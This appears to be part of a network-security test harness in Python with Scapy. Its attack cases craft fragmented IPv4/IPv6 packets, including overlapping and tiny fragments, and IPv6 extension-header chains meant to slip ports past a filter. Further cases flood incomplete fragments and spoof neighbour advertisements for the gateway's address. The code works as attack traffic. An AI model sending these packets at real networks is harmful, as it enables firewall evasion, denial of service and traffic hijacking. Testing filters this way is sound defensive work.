# A6: fragments and chains of headers that hide what a packet is.

def pieces(e, f, whole, cuts, proto, src=None, dst=None, ident=77):
    """An IP payload in the pieces `cuts` (begin, end): one packet each."""
    out, last = [], max(end for _, end in cuts)
    for begin, end in cuts:
        more = int(end < last)
        if f == 4:
            out.append(IP(src=src or e.me[4], dst=dst or e.victim[4], id=ident, flags=more, frag=begin // 8, proto=proto) / Raw(whole[begin:end]))
        else:
            out.append(IPv6(src=src or e.me[6], dst=dst or e.victim[6])
                       / IPv6ExtHdrFragment(id=ident, m=more, offset=begin // 8, nh=proto) / Raw(whole[begin:end]))
    return out

def datagram(e, f, dst, dport, size=200):
    """A UDP datagram as its IP payload, with its checksum; the token all over it."""
    whole = bytes(ip(f, e.me[f], dst) / UDP(sport=4000, dport=dport) / Raw((TOKEN * 100)[:size]))
    return whole[20 if f == 4 else 40:]

CUTS = {'in order': [(0, 64), (64, 128), (128, 208)], 'last one first': [(128, 208), (64, 128), (0, 64)],
        'a tiny first one': [(0, 8), (8, 208)], 'overlapping': [(0, 64), (56, 128), (120, 208)],
        'one inside the other': [(0, 208), (64, 72), (128, 208)], 'only the second': [(64, 208)], 'only the first': [(0, 64), (500, 600)][:1],
        'doubled': [(0, 104), (0, 104), (104, 208), (104, 208)]}

for what, cuts in CUTS.items():
    for path in ('straight', 'through the gateway'):
        # A plain router that tracks connections gathers fragments: what never becomes whole stays there.
        if path != 'straight' and what in ('overlapping', 'one inside the other', 'only the second', 'only the first'): continue
        @attack('A6', f'fragments {what}, {path}')
        def _(e, f, cuts=cuts, path=path):
            to = e.victim['mac'] if path == 'straight' else e.gate['mac']
            for n, proto in enumerate((17, 6)):
                for p in pieces(e, f, datagram(e, f, e.victim[f], 4000), cuts, proto, ident=77 + n):
                    send(Ether(src=e.me['mac'], dst=to) / p)

@attack('A6', 'a port without a link, behind fragments of one with', arrives('at-witness'), also=('witness', 'marks'))
def _(e, f):
    # witness:4999 may be asked, witness:5999 not; what has the right port is in another packet.
    whole, good = datagram(e, f, e.witness[f], 5999), datagram(e, f, e.witness[f], 4999)
    to = e.gate['mac']
    for n, parts in enumerate((
            pieces(e, f, whole, [(0, 8), (8, 208)], 17, dst=e.witness[f], ident=801),
            pieces(e, f, whole, [(0, 104), (104, 208)], 17, dst=e.witness[f], ident=802),
            # The first piece twice, with both ports.
            pieces(e, f, good, [(0, 104)], 17, dst=e.witness[f], ident=803) + pieces(e, f, whole, [(0, 104), (104, 208)], 17, dst=e.witness[f], ident=803))):
        for p in parts: send(Ether(src=e.me['mac'], dst=to) / p)

@attack('A6', 'a flood of incomplete ones', changes('victim', 'cat /proc/net/sockstat /proc/net/sockstat6 | grep FRAG'))
def _(e, f):
    for n in range(100):
        p = pieces(e, f, datagram(e, f, e.victim[f], 4000), [(0, 64), (128, 208)], 17, ident=1000 + n)[0]
        send(Ether(src=e.me['mac'], dst=e.victim['mac']) / p)
        send(Ether(src=e.me['mac'], dst=e.gate['mac']) / p)

CHAINS = {'an atomic fragment': lambda: IPv6ExtHdrFragment(id=5, offset=0, m=0), 'hop by hop': lambda: IPv6ExtHdrHopByHop(options=[PadN()]),
          'destination options': lambda: IPv6ExtHdrDestOpt(options=[PadN()]),
          'eight destination options': lambda: IPv6ExtHdrDestOpt(options=[PadN()]) / IPv6ExtHdrDestOpt(options=[PadN()]) / IPv6ExtHdrDestOpt(options=[PadN()])
          / IPv6ExtHdrDestOpt(options=[PadN()]) / IPv6ExtHdrDestOpt(options=[PadN()]) / IPv6ExtHdrDestOpt(options=[PadN()]) / IPv6ExtHdrDestOpt(options=[PadN()])
          / IPv6ExtHdrDestOpt(options=[PadN()]),
          'options, then an atomic fragment': lambda: IPv6ExtHdrDestOpt(options=[PadN()]) / IPv6ExtHdrFragment(id=6, offset=0, m=0)}
for what, chain in CHAINS.items():
    for path in ('straight', 'through the gateway'):
        @attack('A6', f'{what} before the port, {path}', families=(6,))
        def _(e, f, chain=chain, path=path):
            for proto in (UDP(sport=4000, dport=4000) / TOKEN, TCP(sport=4000, dport=80, flags='S') / TOKEN):
                send(Ether(src=e.me['mac'], dst=e.victim['mac'] if path == 'straight' else e.gate['mac'])
                     / IPv6(src=e.me[6], dst=e.victim[6]) / chain() / proto)

for what, chain in CHAINS.items():
    @attack('A6', f'{what} before a port without a link', arrives('at-witness'), (6,))
    def _(e, f, chain=chain):
        send(Ether(src=e.me['mac'], dst=e.gate['mac']) / IPv6(src=e.me[6], dst=e.witness[6]) / chain() / UDP(sport=4000, dport=5999) / TOKEN)

for path in ('straight', 'through the gateway'):
    @attack('A6', f'an advertisement hidden behind options, {path}', families=(6,))
    def _(e, f, path=path):
        for chain in CHAINS.values():
            send(Ether(src=e.me['mac'], dst=e.victim['mac'] if path == 'straight' else e.gate['mac']) / IPv6(src=e.me[6], dst=e.victim[6], hlim=255)
                 / chain() / ICMPv6ND_NA(tgt=e.gate[6], R=1, O=1) / ICMPv6NDOptDstLLAddr(lladdr=e.me['mac']) / Raw(TOKEN))
